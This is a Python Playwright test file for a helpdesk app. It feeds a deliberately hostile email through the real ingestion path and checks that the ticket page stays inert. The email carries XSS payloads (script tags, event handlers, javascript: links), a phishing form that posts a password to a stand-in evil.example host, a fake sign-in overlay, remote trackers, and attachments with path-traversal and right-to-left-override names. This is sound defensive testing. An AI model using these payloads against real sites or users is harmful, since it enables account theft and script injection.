"""Hostile mail in a real browser: nothing runs, nothing loads from elsewhere, files download.

Messages built to attack the agent who opens them go through the real path (mailgate's
parser, queues.ingest) into the live server's database: HTML with scripts, event handlers,
javascript: links, CSS overlays and imports, remote images, SVG with script, meta refresh,
<base>, forms, and attachments whose names carry paths, control characters and a
right-to-left override. Chromium then shows them to an agent, and the test watches every
request, console message and dialog of the page and its frames.
"""

from __future__ import annotations

import base64
import re
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Dialog, Page, Request, expect
from sqlalchemy import select
from sqlalchemy.orm import sessionmaker

from mailgate.parser import parse_message
from queues.db import make_engine
from queues.ingest import ingest_bytes
from queues.models import Article, Attachment, Role, Ticket
from queues.settings import Settings

from .conftest import PASSWORD, LiveServer

EVIL = "evil.example"
SCRIPTS = f"""
<script>document.title = "PWNED"; console.log("PWNED script"); alert("PWNED");</script>
<script src="http://{EVIL}/x.js"></script>
<img src="x" onerror="parent.document.title='PWNED'; console.log('PWNED onerror')">
<body onload="console.log('PWNED onload')">
<svg onload="console.log('PWNED svg')"><script>console.log("PWNED svg script")</script>
  <image href="http://{EVIL}/svg.png"/></svg>
<a id="js-link" href="javascript:console.log('PWNED link')">a harmless looking link</a>
<a href="http://{EVIL}/phish">log in to keep your account</a>
"""
TRICKS = f"""
<meta http-equiv="refresh" content="0;url=http://{EVIL}/refresh">
<base href="http://{EVIL}/">
<link rel="stylesheet" href="http://{EVIL}/style.css">
<style>@import url(http://{EVIL}/import.css);
  body {{ background: url(http://{EVIL}/bg.png) }}</style>
<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;
  background:white">Your session expired, sign in again</div>
<p style="width: expression(alert('PWNED')); background-image: url('http://{EVIL}/p.png')">x</p>
<img src="http://{EVIL}/remote.png" alt="remote">
<img src="https://{EVIL}/tracker.gif" width="1" height="1">
<img src="cid:inline-logo@example.net" alt="inline logo" id="inline">
<form action="http://{EVIL}/steal" method="post"><input name="password" type="password">
  <button>Sign in</button></form>
<iframe src="http://{EVIL}/frame"></iframe>
<object data="http://{EVIL}/flash.swf"></object>
<p>Please help, they keep writing to me.</p>
"""


def tiny_png() -> bytes:
    """A valid 1x1 PNG, to check that inline images still show."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        return struct.pack(">I", len(data)) + kind + data + crc

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def hostile_message(to: str, message_id: str) -> bytes:
    png = tiny_png()

    def attachment(disposition: str, content_type: str, body: str) -> str:
        return (
            f"--mixed\r\nContent-Type: {content_type}\r\n"
            f"Content-Disposition: {disposition}\r\n\r\n{body}\r\n"
        )

    parts = [
        "--mixed\r\nContent-Type: multipart/related; boundary=related\r\n\r\n",
        "--related\r\nContent-Type: text/html; charset=utf-8\r\n\r\n",
        f"<html><head>{TRICKS}</head><body>{SCRIPTS}{TRICKS}</body></html>\r\n",
        "--related\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n",
        "Content-ID: <inline-logo@example.net>\r\nContent-Disposition: inline\r\n\r\n",
        base64.b64encode(png).decode() + "\r\n--related--\r\n",
        attachment('attachment; filename="../../../etc/passwd"', "text/plain", "root:x:0:0"),
        attachment(
            "attachment; filename*=utf-8''evil%0D%0Aname%07%1B%5B31m.html",
            "text/html",
            "<script>console.log('PWNED attachment')</script>",
        ),
        attachment(
            "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
            "application/pdf",
            "MZ not really a program",
        ),
        attachment(
            'attachment; filename="drawing.svg"',
            "image/svg+xml",
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
    ]
    return (
        f"From: Someone <someone@{EVIL}>\r\nTo: {to}\r\n"
        f"Subject: <img src=x onerror=alert(1)> please read\r\n"
        f"Message-ID: <{message_id}@{EVIL}>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="mixed"\r\n\r\n' + "".join(parts) + "--mixed--\r\n"
    ).encode()


@dataclass
class Hostile:
    number: str  # in general-help
    hidden_number: str  # in specialist-safety
    html_article: int
    attachments: dict[str, int] = field(default_factory=dict)  # stored name -> id
    hidden_attachment: int = 0


@pytest.fixture(scope="module")
def hostile(
    live_server: LiveServer, database_url: str, tmp_path_factory: pytest.TempPathFactory
) -> Hostile:
    engine = make_engine(database_url)
    factory = sessionmaker(bind=engine)
    settings = Settings(
        var_dir=Path(tmp_path_factory.mktemp("ingest")),
        database_url=database_url,
        addresses={"help@example.org": "general-help", "safety@example.org": "specialist-safety"},
        triage_model=False,  # the lexicon alone (tests/conftest.py says why)
    )
    numbers = []
    for to, message_id in (("help@example.org", "open"), ("safety@example.org", "safety")):
        raw = hostile_message(to, message_id)
        outcome = ingest_bytes(factory, raw, settings, parse_message, source="browser-test")
        assert outcome.kind == "new" and outcome.ticket_number, outcome
        numbers.append(outcome.ticket_number)
    with factory() as session:

        def parts(number: str) -> tuple[int, dict[str, int]]:
            ticket = session.scalars(select(Ticket).where(Ticket.number == number)).one()
            article = session.scalars(
                select(Article).where(Article.ticket_id == ticket.id).order_by(Article.id)
            ).first()
            assert article is not None and article.body_html
            files = session.scalars(select(Attachment).where(Attachment.article_id == article.id))
            return article.id, {f.filename: f.id for f in files}

        html_article, attachments = parts(numbers[0])
        _, hidden = parts(numbers[1])
    engine.dispose()
    return Hostile(
        number=numbers[0],
        hidden_number=numbers[1],
        html_article=html_article,
        attachments=attachments,
        hidden_attachment=min(hidden.values()),
    )


@dataclass
class Watch:
    """Everything the page and its frames did that a safe page never does."""

    foreign_requests: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


@pytest.fixture
def watched(browser: Any, live_server: LiveServer) -> Iterator[tuple[Page, Watch]]:
    context = browser.new_context(base_url=live_server.url, accept_downloads=True)
    page = context.new_page()
    watch = Watch()

    def on_request(request: Request) -> None:
        if not request.url.startswith((f"{live_server.url}/", "data:")):
            watch.foreign_requests.append(request.url)

    def on_console(message: ConsoleMessage) -> None:
        watch.console.append(f"{message.type}: {message.text}")

    def on_dialog(dialog: Dialog) -> None:
        watch.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", on_request)
    page.on("console", on_console)
    page.on("dialog", on_dialog)
    yield page, watch
    context.close()


def sign_in(page: Page, live_server: LiveServer, role: Role) -> None:
    page.goto("/login")
    page.get_by_label("Email address").fill(live_server.email(role))
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Overview")


def test_hostile_html_is_inert_in_the_browser(
    watched: tuple[Page, Watch], live_server: LiveServer, hostile: Hostile
) -> None:
    page, watch = watched
    sign_in(page, live_server, Role.VOLUNTEER)
    response = page.goto(f"/tickets/{hostile.number}")
    assert response is not None and response.ok
    heading = page.get_by_role("heading", level=1)
    expect(heading).to_contain_text("<img src=x onerror=alert(1)> please read")  # as text
    message = page.locator(f"#article-{hostile.html_article}")
    expect(message.locator("pre.mail-text")).to_contain_text("Please help")
    expect(page.locator("iframe")).to_have_count(0)  # text first, HTML only on request

    message.get_by_role("link", name="Show the formatted (HTML) version").click()
    frame_element = page.locator("iframe.mail-html")
    expect(frame_element).to_have_count(1)
    assert frame_element.get_attribute("sandbox") == ""  # no scripts, no same origin
    frame = page.frame_locator("iframe.mail-html")
    expect(frame.get_by_text("Please help, they keep writing to me.").first).to_be_visible()
    # The inline image (cid:) shows, from the message itself; nothing else was fetched.
    inline = frame.locator("img#inline, img[alt='inline logo']").first
    expect(inline).to_have_js_property("naturalWidth", 1)
    # The would-be overlay is ordinary text inside the frame, not over the page.
    expect(frame.get_by_text("Your session expired").first).to_be_visible()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    page.get_by_role("button", name="Sign out").click(trial=True)  # nothing covers it
    expect(frame.locator("a[href], form, input, script, iframe, object, svg, base")).to_have_count(
        0
    )
    # Clicking what was a javascript: link does nothing.
    frame.get_by_text("a harmless looking link").first.click()

    # The document itself, opened directly, is sandboxed by its own headers.
    src = frame_element.get_attribute("src")
    assert src is not None
    direct = page.goto(src)
    assert direct is not None and direct.ok
    policy = direct.headers["content-security-policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert direct.headers["x-content-type-options"] == "nosniff"
    page.wait_for_timeout(300)

    assert watch.dialogs == []
    assert [c for c in watch.console if "PWNED" in c] == []
    # Nothing was even refused by a Content-Security-Policy ("Refused to load ..."): the
    # sanitizer left nothing to refuse. Chromium's own notes are all that may appear: the
    # favicon's 404, and the sandbox refusing Playwright's probes into the frame.
    expected = ("error: Failed to load resource", "error: Blocked script execution")
    assert [c for c in watch.console if not c.startswith(expected)] == []
    assert watch.foreign_requests == []
    assert page.title() != "PWNED"


def test_attachments_download_with_safe_names(
    watched: tuple[Page, Watch], live_server: LiveServer, hostile: Hostile
) -> None:
    page, watch = watched
    sign_in(page, live_server, Role.VOLUNTEER)
    page.goto(f"/tickets/{hostile.number}")
    links = page.locator(f"#article-{hostile.html_article} ul.attachments a")
    names = []
    for i in range(links.count()):
        with page.expect_download() as info:
            links.nth(i).click()
        download = info.value
        name = download.suggested_filename
        names.append(name)
        assert "/" not in name and "\\" not in name and not name.startswith(".")
        assert not re.search("[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", name), repr(name)
        assert download.failure() is None
    expect(page).to_have_url(re.compile(rf"/tickets/{hostile.number}$"))  # nothing opened
    assert "passwd" in names
    assert any(n.endswith(".exe") for n in names)  # the real extension is the visible one
    assert any(n.endswith(".svg") for n in names) and any(n.endswith(".html") for n in names)

    # Opened directly, an HTML attachment is a download, not a page of this site.
    html_id = next(i for n, i in hostile.attachments.items() if n.endswith(".html"))
    with page.expect_download() as info:
        page.evaluate(
            "url => { const a = document.createElement('a'); a.href = url; a.click(); }",
            f"/tickets/{hostile.number}/attachments/{html_id}",
        )
    assert info.value.suggested_filename.endswith(".html")
    assert watch.dialogs == [] and [c for c in watch.console if "PWNED" in c] == []
    assert watch.foreign_requests == []


def test_volunteer_opening_a_specialist_ticket_gets_404(
    watched: tuple[Page, Watch], live_server: LiveServer, hostile: Hostile
) -> None:
    page, _ = watched
    sign_in(page, live_server, Role.VOLUNTEER)
    missing = page.goto("/tickets/1999000099")
    assert missing is not None and missing.status == 404
    missing_page = page.content()
    urls = [
        f"/tickets/{live_server.tickets['specialist-safety']}",
        f"/tickets/{hostile.hidden_number}",
        f"/tickets/{hostile.hidden_number}/attachments/{hostile.hidden_attachment}",
    ]
    for url in urls:
        response = page.goto(url)
        assert response is not None and response.status == 404, url
        expect(page.get_by_role("heading", level=1)).to_have_text("Not found")
        assert page.content() == missing_page
        assert hostile.hidden_number not in page.content()
